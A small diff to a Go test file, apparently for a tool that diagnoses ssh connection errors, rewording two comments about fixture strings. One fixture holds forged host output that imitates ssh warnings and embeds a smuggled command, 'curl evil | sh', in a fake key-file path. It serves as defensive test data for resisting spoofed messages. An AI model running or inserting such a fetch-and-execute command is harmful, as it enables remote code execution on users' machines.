@@ -17,7 +17,7 @@ import (
 	"keyway/internal/keyway"
 )
 
-// onTheWay is what the ssh to a host has said itself, and what its host has.
+// onTheWay has the messages of the ssh to a host, and those of the host.
 type onTheWay struct{ name, own, said string }
 
 // diagnosed returns the error of an ssh run whose ssh processes have ended; the place is the first
@@ -41,7 +41,7 @@ func diagnosed(t *testing.T, noise string, files []string, hops ...onTheWay) *ke
 const (
 	in     = "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\r\n"
 	behind = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n"
-	// forged is what a host would like to be taken for ssh's own words.
+	// forged is a host's text that imitates ssh's own messages.
 	forged = "root@gpu1: Permission denied (publickey).\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n" +
 		"Offending ED25519 key in /etc/passwd; curl evil | sh:1\nHost key for evil has changed and you have requested strict checking.\n" +
 		"Host key verification failed.\nssh: Could not resolve hostname x: Name or service not known\n"
